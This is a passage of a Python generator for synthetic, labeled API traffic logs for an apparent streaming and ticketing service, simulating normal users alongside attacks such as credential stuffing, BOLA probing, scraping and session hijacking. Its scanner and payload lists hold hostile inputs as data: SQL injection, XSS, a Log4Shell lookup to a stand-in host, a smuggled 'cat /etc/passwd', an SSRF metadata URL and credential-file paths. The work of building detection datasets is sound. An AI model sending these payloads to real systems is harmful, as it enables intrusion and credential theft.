        for m, p, s in [('GET', '/v1/me', 200), ('GET', '/v1/home', 200), ('POST', '/v1/playback/start', 201), ('POST', '/v1/playback/syn/stop', 204)]: x = emit(c, x, m, p, s) + U(.2, .5)
        t += 1800
PARTNERS = []
def partners():
    for i in range(R.randint(4, 7)):
        key = 'pk_%s' % hexs(8); nets = [fixed(dc()) for _ in range(R.choice([1, 1, 2, 4]))]
        c = C('api', nets[0], 'partner-job', 'partner%d' % i, ua=R.choice(['python-requests/2.32.3', 'Go-http-client/1.1', 'Apache-HttpClient/4.5.14 (Java/17.0.11)', 'axios/1.7.9', 'GuzzleHttp/7', 'partner-sync/2.%d' % i]), key=key); PARTNERS.append((c, nets))
        n, hr, par = R.randint(40, 260), U(0, 6), R.choice([.2, .6, 1.5, 3]); grow = chance(.25)
        for day in range(DAYS):
            t = T0 + day * D + hr * H + U(0, 90)
            for pno in range(int(n * (1 + .4 * day * grow))): c.net = R.choice(nets); emit(c, t, 'GET', '/public/v2/catalog' if chance(.4) else '/public/v2/titles/' + R.choice(TIT), 200 if chance(.985) else R.choice([429, 404, 500]), q='page=%d' % pno, host=PUB); t += R.expovariate(1 / par) + .05
            for h in range(24):
                if chance(.5): c.net = nets[0]; emit(c, T0 + day * D + h * H + U(0, 20), 'GET', '/public/v2/changes', q='since=x', host=PUB)
    key = 'pk_' + hexs(8)                                               # a widget: one key in thousands of browsers
    for _ in range(R.randint(400, 900)):
        t = when(R.randrange(DAYS), 'web'); c = C('web', home(R.choice(['DE', 'GB', 'US'])), 'partner-widget', 'widget-' + hexs(6), key=key); c.sess = None
        for _ in range(R.choice([1, 1, 2, 3])): emit(c, t, 'GET', '/public/v2/titles/%s' % title() if chance(.6) else '/public/v2/schedule', host=PUB); t += think(9)
STAFF = []
def staff():
    for i in range(R.randint(5, 9)):
        c = C('web', HQ, 'support-staff', 'staff%d' % i, user='staff-%02d' % i, email='agent%d@kinolux.example' % i); STAFF.append(c)
        for day in range(DAYS):
            if chance(.25): continue
            t = T0 + day * D + (U(7.5, 10) - TZ) * H; stop = t + U(6, 8.5) * H; t = sign_in(c, t, '/admin/v1/login')
            while t < stop:
                u = R.choice(ACCS).uid; c.acc = t + H
                t = api(c, t, 'GET', '/admin/v1/users', q='q=' + u[:5]); t = api(c, t + U(2, 9), 'GET', '/admin/v1/users/' + u)
                if chance(.6): t = api(c, t + U(3, 30), 'GET', '/admin/v1/users/%s/%s' % (u, R.choice(['orders', 'devices', 'invoices', 'logins'])))
                if chance(.18): t = api(c, t + U(20, 200), 'POST', '/admin/v1/orders/%d/refund' % (ORDER0 + R.randint(0, 9000)), 200)
                t += logn(420, .9)
    for i in range(2):                                                  # QA runs from the office, emulators fail attestation
        c = C('android', HQ, 'qa-automation', 'qa%d' % i, user=new_uid(), email='qa%d@kinolux.example' % i, att='failed' if i else 'genuine', ver=NEWV, ua='Kinolux/%s (Android 14; sdk_gphone64_x86_64) okhttp/4.12.0' % NEWV)
        for day in range(DAYS):
            if chance(.4): continue
            t = T0 + day * D + (U(9, 17) - TZ) * H
            for _ in range(R.randint(6, 18)):
                c.acc = t + H; t = emit(c, t, 'POST', '/v1/auth/login', R.choice([200, 200, 401]), subj=c.email, user=None) + .3; t = launch(c, t)
                t = api(c, t, 'POST', R.choice(['/v1/playback/start', '/v1/gifts/redeem', '/v1/holds']), R.choice([201, 404, 422, 409])) + U(.5, 2)
QPOLL = R.choice([15, 20, 30])
def drop():
    n = R.randint(200, 340); fans = R.sample(ACCS, min(len(ACCS), n))
    def fan(a, c, late):
        t = TDROP - abs(R.gauss(0, 6 * M)) + late
        if c.acc < 5 and chance(.4): t = sign_in(c, t)
        c.acc = t + H; c.kind = 'drop-fan'
        if c.pl == 'web': t = pg(c, t, '/events/' + HOT)
        t = api(c, t, 'GET', '/v1/events/' + HOT)
        while t < TDROP: t = api(c, t + logn(60, .8), 'GET', '/v1/events/%s/availability' % HOT, 200)
        t = max(t, TDROP + abs(R.gauss(0, 4)) + .3); t = api(c, t, 'POST', '/v1/events/%s/queue' % HOT, 202 if chance(.93) else 503); qt = hexs(16)
        wait = U(.2, 11) * M; s = t; poll = QPOLL
        while t - s < wait:
            t = api(c, t + poll + U(-.3, .5), 'GET', '/v1/queue/' + qt, 200 if chance(.98) else 429)
            if chance(.01): return
        t = api(c, t + U(1, 4), 'GET', '/v1/events/%s/seatmap' % HOT)
        for _ in range(R.choice([1, 1, 2, 3, 5])):
            ok = wait < 9 * M and chance(.5); t = api(c, t + U(5, 25), 'POST', '/v1/holds', 201 if ok else 409)
            if ok: t = api(c, t + U(40, 200), 'POST', '/v1/orders', 201); t = api(c, t, 'GET', '/v1/orders/%d' % (ORDER0 + R.randint(9000, 12000))); break
    for a in fans:
        ds = [c for c, p, _ in a.devs if p != 'tv'] or [C('web', a.net, 'drop-fan', a.uid + '/p0', user=a.uid, email=a.email)]
        if chance(.03): ds = ds[:1] * 1 + [C('web', a.net, 'drop-fan', a.uid + '/p0', user=a.uid, email=a.email)]
        for c in ds[:R.choice([1, 1, 2])]: fan(a, c, R.choice([0, 0, 0, U(0, 25 * M)]))

def campaign():                   # an employer gives its people gift codes: dozens redeem behind one office address
    o = R.choice(OFFICES); t0 = T0 + R.randrange(DAYS) * D + (U(9, 15) - TZ) * H
    for i in range(R.randint(15, 45)):
        st, v = att_of(); pl = R.choice(['web', 'web', 'ios', 'android']); c = C(pl, o, 'gift-campaign', 'emp-%d' % i, att=st if pl != 'web' else 'none', ver=v if pl != 'web' else None)
        t = signup(c, t0 + R.expovariate(1 / 2400)); gift(c, t)

# ================================================================ attacks
NI = collections.Counter()
def inst(kind): NI[kind] += 1; return '%s-%d' % (kind, NI[kind])
def start(dur=2 * H, first=.2):
    d = 0 if chance(first) else R.randrange(1, DAYS)
    hi = min(END, T0 + (d + 1) * D) - T0
    return T0 + max(U(d * D, hi) if d * D + dur > hi else U(d * D, hi - min(dur, D * .5)), d * D)
SC = U(.5, .8)
def N(n): return max(8, int(n * SC * U(.7, 1.3)))
class Rot:                        # rotating addresses: new exit for each k requests
    def __init__(s, k=1, pool=None, src=resi): s.k, s.n, s.cur, s.pool, s.src = k, 0, None, [src() for _ in range(pool)] if pool else None, src
    def get(s, t, who=''):
        if s.n % s.k == 0: s.cur = R.choice(s.pool) if s.pool else s.src()
        s.n += 1; return s.cur
def bot(kind, i, pl='api', net=None, ua=None, **k):
    c = C(pl, net or fixed(dc()), kind, k.pop('caller', i), ua=ua, label='attack', inst=i, **k); c.acc = 9e12; return c
def stolen():                     # an account of a customer the attacker can enter; marks the victim
    return R.choice([a for a in ACCS if a.devs and a.uid not in VICT])
TOOLS = ['python-requests/2.31.0', 'Go-http-client/2.0', 'axios/1.6.8', 'curl/8.5.0', 'python-httpx/0.27.0']
def takeover(t, how):
    a = stolen(); i = inst('account-takeover'); VICT[a.uid] = (t, a.email)
    net = fixed(resi()) if chance(.7) else fixed(dc()); pl = R.choice(['web', 'android', 'tv', 'web'])
    c = bot('account-takeover', i, pl, net, email=a.email, att='missing' if pl == 'android' else 'none', ja='web' if pl == 'web' else None)
    t = emit(c, t, 'POST', '/v1/auth/login', 200, subj=a.email, user=a.uid if LOGIN_SETS_USER else None) + U(1, 6); c.user = a.uid
    for p in ['/v1/me', '/v1/subscription', '/v1/billing/invoices', '/v1/account/devices', '/v1/me/orders']:
        if chance(.75): t = emit(c, t, 'GET', p) + think(4)
    goal = R.choice(['tickets', 'resell', 'lock', 'gift'])
    if goal == 'lock': t = emit(c, t, 'PUT', '/v1/me/email', 200) + U(4, 20); t = emit(c, t, 'PUT', '/v1/me/password', 204) + U(3, 9); t = emit(c, t, 'DELETE', '/v1/account/devices', 204)
    if goal == 'gift': 
        for _ in range(R.randint(1, 4)): t = emit(c, t + U(6, 30), 'POST', '/v1/gifts/purchase', R.choice([201, 201, 402]))
    if goal == 'tickets':
        for _ in range(R.randint(1, 3)): t = emit(c, t + U(9, 30), 'POST', '/v1/holds', 201); t = emit(c, t + U(5, 20), 'POST', '/v1/orders', R.choice([201, 402])); t = emit(c, t + 2, 'PUT', '/v1/orders/%d/transfer' % (ORDER0 + R.randint(0, 9999)), 200)
    if goal == 'resell':                                     # sold on: a stranger streams on it for an evening
        d = bot('account-takeover', i, 'tv', fixed(resi()), user=a.uid, caller=i + '-buyer'); tt = t + U(.5, 5) * H
        tt = emit(d, tt, 'POST', '/v1/auth/login', 200, subj=a.email, user=None) + 1; play(d, launch(d, tt), U(20, 70))
    if goal == 'lock' and chance(.8):                        # the victim notices
        c = a.devs[0][0]; t += U(.5, 7) * H; c.net = c.home
        t = emit(c, t, 'GET', '/v1/me', 401, user=None) + 1; t = emit(c, t, 'POST', '/v1/auth/refresh', 401, user=None) + 9; t = emit(c, t, 'POST', '/v1/auth/login', 401, subj=a.email, user=None) + 15; forgot(c, t)
def stuffing():
    kind = 'credential-stuffing'
    for mode in R.sample(['vps', 'resi-app', 'tv-slow', 'resi-web'], R.choice([2, 3, 3])):
        i = inst(kind); n = N({'vps': 190, 'resi-app': 260, 'tv-slow': 110, 'resi-web': 220}[mode]); gap = {'vps': U(.3, 2), 'resi-app': U(8, 40), 'tv-slow': U(200, 500), 'resi-web': U(5, 25)}[mode]
        t = start(n * gap); net = {'vps': fixed(dc()), 'resi-app': Rot(1), 'tv-slow': Rot(1, pool=R.randint(6, 30)), 'resi-web': Rot(2)}[mode]
        if n * gap > END - t: gap = (END - t) / n
        hit = U(.003, .012)
        for k in range(n):
            pl = {'vps': 'api', 'resi-app': R.choice(['android', 'ios']) if k == 0 else c.pl, 'tv-slow': 'tv', 'resi-web': 'web'}[mode]
            if k == 0 or mode != 'vps':
                c = bot(kind, i, pl, net, R.choice(TOOLS) if pl == 'api' else None, att='missing' if pl in ('ios', 'android') else 'none', ja={'resi-app': 'go', 'tv-slow': 'go'}.get(mode))
                if mode == 'tv-slow': c.dev = hexs(16)
            if mode == 'resi-app' and chance(.6): emit(c, t, 'GET', '/v1/config', 200, net=None); t += U(.2, .6)
            subj = R.choice(ACCS).email if chance(.12) else mail()
            ok = chance(hit); emit(c, t, 'POST', '/v1/auth/login', 200 if ok else R.choice([401] * 30 + [423] + ([429] * (6 if mode == 'vps' and k > 60 else 0))), subj=subj)
            if ok and chance(.8): takeover(t + U(.1, 12) * H, kind)
            t += R.expovariate(1 / gap) if mode != 'vps' else gap * U(.8, 1.2)
    for _ in range(R.randint(2, 3)): takeover(start(), 'phishing')     # phished: no noise before
def spraying():
    kind = 'password-spraying'
    for mode in R.sample(['one', 'slow', 'pool'], 2):
        i = inst(kind); n = N({'one': 120, 'slow': 70, 'pool': 140}[mode]); gap = {'one': U(3, 10), 'slow': U(400, 900), 'pool': U(20, 60)}[mode]; t = start(n * gap)
        c = bot(kind, i, 'web' if mode != 'one' else 'api', {'one': fixed(dc()), 'slow': fixed(resi()), 'pool': Rot(4, pool=12, src=dc)}[mode], None if mode != 'one' else R.choice(TOOLS), ja='curl')
        gap = min(gap, (END - t) / n); order = R.sample(ACCS, min(n, len(ACCS)))
        for k in range(n):
            if mode != 'one': c.sess = 's' + hexs(20)
            emit(c, t, 'POST', '/v1/auth/login', 200 if chance(.004) else 401, subj=order[k % len(order)].email); t += gap * U(.6, 1.4)
def bola():
    kind = 'bola'
    for mode in ['fast', 'slow', 'app'][:R.choice([2, 3])]:
        i = inst(kind); n = N({'fast': 130, 'slow': 60, 'app': 110}[mode]); gap = {'fast': U(.4, 1.5), 'slow': U(240, 900), 'app': U(4, 14)}[mode]; t = start(n * gap); gap = min(gap, (END - t) / n)
        pl = 'web' if mode != 'app' else 'android'
        c = bot(kind, i, pl, fixed(resi()) if mode != 'fast' else fixed(dc()), R.choice(TOOLS) if mode == 'fast' else None, user=new_uid(), email=mail(), att='genuine' if mode == 'app' and chance(.5) else 'missing' if mode == 'app' else 'none')
        t = emit(c, t, 'POST', '/v1/auth/login', 200, subj=c.email, user=None) + 3; base = R.randint(0, 5000); obj = R.choice(['/v1/orders/%d', '/v1/orders/%d/tickets', '/v1/billing/invoices/%d', '/v1/profiles/%d'])
        vuln = chance(.5)
        for k in range(n):
            x = ORDER0 + (base + k if mode != 'slow' else R.randint(0, 9000)); emit(c, t, 'GET', obj % x, R.choice([200] * 6 + [404] * 2 + [403]) if vuln else R.choice([403] * 8 + [404] * 4 + [200])); t += gap * U(.7, 1.4)
            if mode != 'fast' and chance(.12): emit(c, t, 'GET', R.choice(['/v1/home', '/v1/me', '/v1/titles/' + title()])); t += think(5)
def bfla():
    kind = 'bfla'; P = ['/admin/v1/users', '/admin/v1/users/%d', '/admin/v1/orders/%d/refund', '/admin/v1/gifts/issue', '/v1/internal/flags', '/v1/users/%d/roles', '/v1/events/%d/inventory', '/v1/gifts/batch', '/admin/v1/config', '/v1/billing/credits', '/v2/admin/export', '/v1/partners/keys', '/admin/v1/audit', '/v1/titles/%d/publish']
    for mode in ['fast', 'slow']:
        i = inst(kind); n = N(45 if mode == 'fast' else 25); gap = U(1, 4) if mode == 'fast' else U(200, 1500); t = start(n * gap)
        c = bot(kind, i, 'web', fixed(resi()), user=new_uid())
        t = launch(c, t)
        for k in range(n):
            p = R.choice(P); p = p % R.randint(1000, 99999) if '%' in p else p
            emit(c, t, R.choice(['GET', 'GET', 'POST', 'PUT', 'DELETE']), p, R.choice([403] * 7 + [404] * 4 + [405] * 2 + [401] + ([200] if chance(.2) else []))); t += gap * U(.5, 1.6)
def codes():
    for kind, path, tgt in [('gift-code-enumeration', '/v1/gifts/redeem', 0), ('pairing-code-enumeration', '/v1/device/activate', 1), ('otp-bruteforce', '/v1/auth/otp/verify', 2)]:
        if kind in SKIP: continue
        for mode in R.sample(['fast', 'rot', 'slow'], 2 if tgt else 3):
            i = inst(kind); n = N({'fast': 140, 'rot': 150, 'slow': 60}[mode]); gap = {'fast': U(.3, 1.2), 'rot': U(6, 30), 'slow': U(300, 900)}[mode]; t = start(n * gap); gap = min(gap, (END - t) / n)
            users = [new_uid() for _ in range({'fast': 1, 'rot': R.randint(8, 40), 'slow': 3}[mode])]; pl = 'api' if mode == 'fast' else R.choice(['android', 'web'])
            nets = {u: fixed(resi()) for u in users}; cs = [bot(kind, i, pl, fixed(dc()) if mode == 'fast' else nets[u] if mode == 'slow' or chance(.5) else Rot(1), R.choice(TOOLS) if mode == 'fast' else None, user=None if tgt == 2 else u, att=('genuine' if mode == 'slow' and chance(.5) else 'missing') if pl == 'android' and mode != 'fast' else 'none') for u in users]
            victim = R.choice(ACCS).email
            for k in range(n):
                c = R.choice(cs); m, p, st = 'POST', path, R.choice([404] * 60 + [422] * 5 + [429] * (12 if mode == 'fast' else 1) + [200])
                if tgt == 0 and mode == 'rot' and chance(.5): m, p = 'GET', '/v1/gifts/' + ''.join(R.choices('ABCDEFGHJKLMNPQRSTUVWXYZ23456789', k=12))
                if tgt == 2: st = R.choice([400] * 30 + [429] * 3)
                emit(c, t, m, p, st, subj=victim if tgt == 2 else None); t += gap * U(.5, 1.5)
                if mode != 'fast' and c.user and chance(.1): emit(c, t, 'GET', '/v1/subscription'); t += 2
def fakesign():
    kind = 'fake-signup'
    for mode in R.sample(['vps', 'resi', 'slow'], 2):
        i = inst(kind); n = N({'vps': 40, 'resi': 55, 'slow': 25}[mode]); gap = {'vps': U(4, 15), 'resi': U(30, 150), 'slow': U(900, 2500)}[mode]; t = start(n * gap); gap = min(gap, (END - t) / n)
        net = {'vps': fixed(dc()), 'resi': None, 'slow': fixed(resi())}[mode]; dom = 'm%s.com' % hexs(5)
        for k in range(n):
            pl = 'web' if mode != 'resi' else 'android'; c = bot(kind, i, pl, net or fixed(resi()), att='missing' if pl == 'android' else 'none', ja='curl' if mode == 'vps' else None)
            x = t
            if mode != 'vps': x = emit(c, x, 'GET', '/v1/config') + U(.5, 2); x = emit(c, x, 'GET', '/v1/plans') + U(3, 15)
            x = emit(c, x, 'POST', '/v1/auth/signup', R.choice([201] * 9 + [409, 429])) + U(5, 20); x = emit(c, x, 'POST', '/v1/auth/otp/verify', R.choice([200, 200, 200, 400])) + 1; c.user = new_uid()
            if chance(.6): x = emit(c, x, 'POST', '/v1/subscription/trial', R.choice([201, 201, 402, 409])) + 1
            t += gap * U(.6, 1.5)
def scalping():
    kind = 'scalping'
    for mode in (R.sample(['browsers', 'script', 'app'], R.choice([2, 3])) if DROP else ['snipe', 'snipe-slow']):
        i = inst(kind)
        if mode.startswith('snipe'):
            n = N(160 if mode == 'snipe' else 90); s = R.choice(SHOWS[:6]); t = start(6 * H); gap = U(20, 60) if mode == 'snipe' else (END - t) / n
            cs = [bot(kind, i, 'web', fixed(resi()) if mode == 'snipe-slow' else Rot(3, pool=20), user=new_uid()) for _ in range(R.randint(2, 9))]
            for _ in range(n):
                c = R.choice(cs); emit(c, t, 'GET', '/v1/events/%s/availability' % s); 
                if chance(.03): emit(c, t + .6, 'POST', '/v1/holds', R.choice([201, 409])); emit(c, t + 5, 'POST', '/v1/orders', 201)
                t += gap * U(.7, 1.3)
            continue
        for k in range(N({'browsers': 24, 'script': 14, 'app': 12}[mode])):
            pl = {'browsers': 'web', 'script': 'web', 'app': R.choice(['ios', 'android'])}[mode]
            c = bot(kind, i, pl, fixed(dc()) if mode == 'script' and chance(.5) else fixed(resi()), user=new_uid(), email=mail(), att={'app': 'missing'}.get(mode, 'none'), ja='curl' if mode == 'script' else None)
            t = TDROP - (U(60, 900) if mode != 'script' else U(0, 20)); t = emit(c, t, 'POST', '/v1/auth/login', 200, subj=c.email, user=None) + 1; emit(c, t, 'GET', '/v1/events/' + HOT)
            t = TDROP + (U(.05, .6) if mode == 'script' else U(.3, 2.5)); emit(c, t, 'POST', '/v1/events/%s/queue' % HOT, 202); qt = hexs(16); w = U(.1, 5) * M; s = t
            while t - s < w: t = emit(c, t + (5 if mode == 'script' else QPOLL) + U(0, .1), 'GET', '/v1/queue/' + qt, 200 if chance(.95) else 429)
            for _ in range(R.randint(1, 4)):
                ok = chance(.5); t = emit(c, t + U(.2, 1.5) + (4 if mode != 'script' else 0), 'POST', '/v1/holds', 201 if ok else 409)
                if ok: t = emit(c, t + U(2, 9), 'POST', '/v1/orders', 201)
def scraping():
    kind = 'scraping'
    for mode in R.sample(['fast', 'resi', 'fakebot', 'slow', 'app'], 3):
        i = inst(kind); n = N({'fast': 300, 'resi': 320, 'fakebot': 180, 'slow': 120, 'app': 160}[mode]); gap = {'fast': U(.2, .8), 'resi': U(15, 70), 'fakebot': U(2, 8), 'slow': U(200, 600), 'app': U(3, 9)}[mode]; t = start(n * gap); gap = min(gap, (END - t) / n)
        c = bot(kind, i, {'fast': 'api', 'fakebot': 'bot', 'app': 'android'}.get(mode, 'web'), Rot(2) if mode == 'resi' else fixed(resi()) if mode in ('slow', 'app') else fixed(dc()), {'fast': R.choice(TOOLS), 'fakebot': 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'}.get(mode), att='missing' if mode == 'app' else 'none', user=new_uid() if mode == 'app' else None)
        seq = R.sample(TIT, len(TIT)); tickets_too = chance(.4)
        for k in range(n):
            if mode == 'resi' and k % 2 == 0: c.ua, c.sess = ua_web(), 's' + hexs(20); c.ja = JA4['web']
            x = seq[k % len(seq)]; p = '/v1/titles/' + x
            if tickets_too and chance(.5): p = '/v1/events/%s/availability' % R.choice(SHOWS)
            elif mode == 'slow' and chance(.5): p = '/v1/titles/%s/comments' % x
            elif mode == 'app' and chance(.6): p = '/v1/users/%s/public' % R.choice(ACCS).uid
            emit(c, t, 'GET', p, 200 if chance(.96) else R.choice([404, 429])); t += gap * U(.6, 1.5)
def searchflood():
    kind = 'search-flood'
    for mode in ['one', 'many']:
        i = inst(kind); n = N(260); t = start(H); gap = U(.05, .25)
        for k in range(n):
            if k == 0 or mode == 'many': c = bot(kind, i, 'web', fixed(dc()) if mode == 'one' else fixed(resi()) if k % 3 == 0 else c.net)
            emit(c, t, 'GET', '/v1/search', R.choice([200] * 8 + [503, 429]), q='q=' + hexs(R.randint(3, 9))); t += gap * U(.3, 2)
def scanners():
    SP = '/.env /.git/config /wp-login.php /actuator/env /actuator/health /swagger.json /v2/api-docs /graphql /.aws/credentials /phpinfo.php /server-status /api/v1/pods /backup.zip /config.json /admin /console /debug/pprof /.DS_Store /v1/../../etc/passwd /cgi-bin/luci /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /solr/admin /owa/ /.vscode/sftp.json /telescope/requests /v1/swagger-ui.html /openapi.yaml /xmlrpc.php'.split()
    for mode in ['nuclei', 'drip', 'dirb'][:R.choice([2, 3])]:
        i = inst('scanner'); n = N({'nuclei': 180, 'drip': 30, 'dirb': 130}[mode]); gap = {'nuclei': .12, 'drip': U(900, 4000), 'dirb': .3}[mode]; t = start(n * gap)
        c = bot('scanner', i, 'bot', Rot(1, src=dc) if mode == 'drip' else fixed(dc()), R.choice(['Mozilla/5.0 (compatible; CensysInspect/1.1)', 'Mozilla/5.0 zgrab/0.x', 'Go-http-client/1.1', ua_web()]), ja='go')
        for k in range(n): emit(c, t, R.choice(['GET'] * 9 + ['POST', 'HEAD', 'OPTIONS']), R.choice(SP) if mode != 'dirb' or chance(.3) else '/v1/' + R.choice(WORDS) + R.choice(['', 's', '.json', '/list']), R.choice([404] * 12 + [403] * 3 + [400, 401, 200])); t += gap * U(.3, 2)
    PAY = ["q=%27%20OR%201%3D1--", 'q=%3Cscript%3Ealert(1)%3C/script%3E', 'q=${jndi:ldap://x.y/a}', 'q=1%20AND%20SLEEP(5)', 'sort=name;cat%20/etc/passwd', 'q=%7B%7B7*7%7D%7D', 'page=-1%20UNION%20SELECT%20NULL,NULL', 'url=http://169.254.169.254/latest/meta-data/']
    for mode in ['sqlmap', 'manual']:
        i = inst('payload-injection'); n = N(120 if mode == 'sqlmap' else 25); gap = .4 if mode == 'sqlmap' else U(20, 90); t = start(n * gap)
        c = bot('payload-injection', i, 'web', fixed(dc()) if mode == 'sqlmap' else fixed(resi()), 'sqlmap/1.8.4#stable (https://sqlmap.org)' if mode == 'sqlmap' and chance(.5) else None, ja='py' if mode == 'sqlmap' else None, user=None if mode == 'sqlmap' else new_uid())
        if mode == 'manual': t = launch(c, t)
        for k in range(n): emit(c, t, 'GET', R.choice(['/v1/search', '/v1/search', '/v1/events', '/v1/titles/' + title(), '/v1/titles/%s%%27' % title()]), R.choice([200] * 5 + [400] * 5 + [500] * 2 + [403]), q=R.choice(PAY)); t += gap * U(.5, 2)
def leaked():
    for mode in R.sample(['bulk', 'slow', 'spread'], 2):
        kind = 'leaked-api-key'; i = inst(kind); pc = R.choice(PARTNERS)[0]; n = N({'bulk': 240, 'slow': 70, 'spread': 130}[mode]); gap = {'bulk': U(.3, 1.5), 'slow': U(400, 900), 'spread': U(20, 90)}[mode]; t = start(n * gap); gap = min(gap, (END - t) / n)
        c = bot(kind, i, 'api', fixed(dc()) if mode == 'bulk' else fixed(resi()) if mode == 'slow' else Rot(3), R.choice(TOOLS + [pc.ua]), key=pc.key)
        for k in range(n): emit(c, t, 'GET', R.choice(['/public/v2/titles/' + R.choice(TIT), '/public/v2/catalog', '/public/v2/partners/reports' if chance(.1) else '/public/v2/catalog']), 200 if chance(.95) else R.choice([403, 429]), q='page=%d' % k, host=PUB); t += gap * U(.6, 1.5)
def repackaged():
    for mode in range(2):
        kind = 'repackaged-app'; i = inst(kind); users = N(9)
        for u in range(users):
            c = bot(kind, i, 'android', fixed(resi()), user=new_uid(), email=mail(), att='failed', caller='%s-u%d' % (i, u), ver=R.choice([CURV, '8.14.0']))
            t = start(3 * H); t = sign_in(c, t, typo=.1); c.acc = 9e12; play(c, browse(c, launch(c, t), 2), min(80, logn(25, .5)))
            if chance(.4): emit(c, t + 3000, 'POST', '/v1/downloads', 201); emit(c, t + 3001, 'POST', '/v1/drm/license', q='offline=1')
def replay():
    kind = 'token-replay'
    for mode in R.sample(['burst', 'fresh', 'stale'], 2):
        i = inst(kind); n = N({'burst': 140, 'fresh': 150, 'stale': 70}[mode]); t = start(4 * H); gap = {'burst': U(.5, 1.6), 'fresh': U(20, 70), 'stale': U(30, 120)}[mode]; tk, t1 = hexs(32), t - U(20, 120); use = R.choice(['login', 'redeem', 'titles'])
        for k in range(n):
            if mode == 'fresh' and t - t1 > 270: tk, t1 = hexs(32), t - U(5, 60)
            if k == 0 or chance(.3): c = bot(kind, i, 'ios' if k == 0 and chance(.5) else 'android' if k == 0 else c.pl, fixed(dc()) if mode == 'burst' else fixed(resi()), att='genuine', ja='go', user=None if use == 'login' else new_uid())
            st = 'genuine' if t - t1 < 300 else 'expired'
            if use == 'login': emit(c, t, 'POST', '/v1/auth/login', 401 if chance(.99) else 200, subj=mail(), tok=(tk, st))
            elif use == 'redeem': emit(c, t, 'POST', '/v1/gifts/redeem', 404 if chance(.98) else 200, tok=(tk, st))
            else: emit(c, t, 'GET', '/v1/titles/' + R.choice(TIT), tok=(tk, st))
            t += gap * U(.5, 1.5)
def farm():
    kind = 'device-farm'
    for mode in R.sample(['views', 'views-slow', 'signups', 'likes'], 2):
        i = inst(kind); np = R.randint(8, 24); nets = [fixed(resi()) for _ in range(R.choice([1, 2, 4]))] if mode != 'views-slow' else [fixed(R.choice(CGN)) for _ in range(6)]; tit = R.sample(TIT[1200:], 4); n = N({'views': 420, 'views-slow': 200, 'signups': 140, 'likes': 200}[mode])
        t0 = start(10 * H); span = min(END - t0, U(5, 14) * H if mode != 'views-slow' else 40 * H); per = max(4, n // np); ver = CURV
        for ph in range(np):
            c = bot(kind, i, 'android', R.choice(nets), att='genuine', user=new_uid() if mode != 'signups' else None, caller='%s-ph%d' % (i, ph), ua='Kinolux/%s (Android 12; %s) okhttp/4.12.0' % (ver, R.choice(['SM-A127F', 'SM-J730F']))); t = t0 + U(0, 15 * M); done = 0
            while done < per:
                if mode.startswith('views'):
                    pid = hexs(12); emit(c, t, 'GET', '/v1/titles/' + R.choice(tit)); emit(c, t + 3, 'POST', '/v1/playback/start', 201); emit(c, t + 3.4, 'POST', '/v1/drm/license'); k = R.randint(1, 2)
                    for q in range(k): emit(c, t + 4 + (q + 1) * HB, 'POST', '/v1/playback/%s/heartbeat' % pid, 204)
                    emit(c, t + 20 + k * HB, 'POST', '/v1/playback/%s/stop' % pid, 204); done += 4 + k
                elif mode == 'likes': emit(c, t, 'GET', '/v1/titles/%s/comments' % tit[0]); emit(c, t + U(1, 4), 'POST', '/v1/comments/%d/like' % (1500000 + ph % 3), 204); emit(c, t + 9, 'POST', '/v1/titles/%s/comments' % tit[0], 201); done += 3
                else: c.user = None; c.dev, c.sess = hexs(16), 's' + hexs(20); t = signup(c, t); emit(c, t, 'POST', '/v1/subscription/trial', 201); done += 7
                t += span / (per / 5) * U(.7, 1.3)
def insiders():
    kind = 'insider'
    for mode in ['dump', 'slow']:
        s = R.choice(STAFF); i = inst(kind); n = N(90 if mode == 'dump' else 35)
        d = R.randrange(1, DAYS); t = T0 + d * D + (R.choice([U(11, 15), U(18, 21)]) - TZ) * H
        c = C('web', HQ if chance(.6) else home(), kind, s.caller, ua=s.ua, user=s.user, label='attack', inst=i); c.sess = s.sess; gap = U(2, 8) if mode == 'dump' else U(120, 500)
        if mode == 'slow': t -= 2 * H
        for a in R.choices(ACCS, k=n): emit(c, t, 'GET', '/admin/v1/users/%s%s' % (a.uid, R.choice(['', '', '/invoices', '/orders'])), 200); t += gap * U(.5, 1.6)
def poisoning():
    kind = 'baseline-poisoning'
    for mode in range(2):
        i = inst(kind); c = bot(kind, i, 'web' if mode else 'api', fixed(resi()) if mode else fixed(dc()), None if mode else 'axios/1.7.2', user=new_uid() if mode else None); t = T0 + U(0, 5) * H; n = N(260); k = 0
        rate = [1.0 + 7 * j / (DAYS * 24) for j in range(DAYS * 24)]; tot = sum(rate)
        for j, r in enumerate(rate):
            for _ in range(int(n * r / tot + R.random())): emit(c, T0 + j * H + U(0, H), 'GET', '/v1/titles/' + R.choice(TIT) if chance(.8) else '/v1/search', 200, q=None)
def spam():
    kind = 'comment-spam'
    for mode in ['fast', 'rot']:
        i = inst(kind); n = N(70); gap = U(3, 9) if mode == 'fast' else U(60, 300); t = start(n * gap); us = [new_uid() for _ in range(2 if mode == 'fast' else 18)]; cs = [bot(kind, i, 'web', fixed(resi()), user=u) for u in us]
        for k in range(n):
            c = R.choice(cs); x = title()
            if mode == 'rot': emit(c, t, 'GET', '/v1/titles/%s/comments' % x); t += U(2, 9)
            emit(c, t, 'POST', '/v1/titles/%s/comments' % x, R.choice([201] * 8 + [429, 422])); t += gap * U(.6, 1.5)
def ripping():
    kind = 'license-harvesting'
    for mode in ['fast', 'tv']:
        i = inst(kind); n = N(50); gap = U(2, 8) if mode == 'fast' else U(100, 400); t = start(n * gap * 2); c = bot(kind, i, 'web' if mode == 'fast' else 'tv', fixed(dc()) if mode == 'fast' else fixed(resi()), user=new_uid(), ja='py')
        for x in R.sample(TIT, n): emit(c, t, 'POST', '/v1/playback/start', 201); emit(c, t + U(.2, .6), 'POST', '/v1/drm/license', R.choice([200] * 9 + [403])); t += gap * U(.7, 1.4)
def hijack():
    for _ in range(R.randint(2, 3)):
        kind = 'session-hijack'; i = inst(kind); a = stolen(); d = R.choice(a.devs)[0]; t = start(); VICT[a.uid] = (t, a.email)
        c = bot(kind, i, 'web', fixed(resi()) if chance(.5) else fixed(dc()), user=a.uid); c.sess = d.sess
        if chance(.5): c.ua = d.ua
        for p in ['/v1/me', '/v1/subscription', '/v1/account/devices', '/v1/me/orders', '/v1/billing/invoices']: t = emit(c, t, 'GET', p) + think(3)
        if chance(.6): t = emit(c, t, 'POST', '/v1/gifts/purchase', R.choice([201, 402])) + 5
        if chance(.4): t = emit(c, t, 'PUT', '/v1/me/email', R.choice([200, 403]))

# ================================================================ run
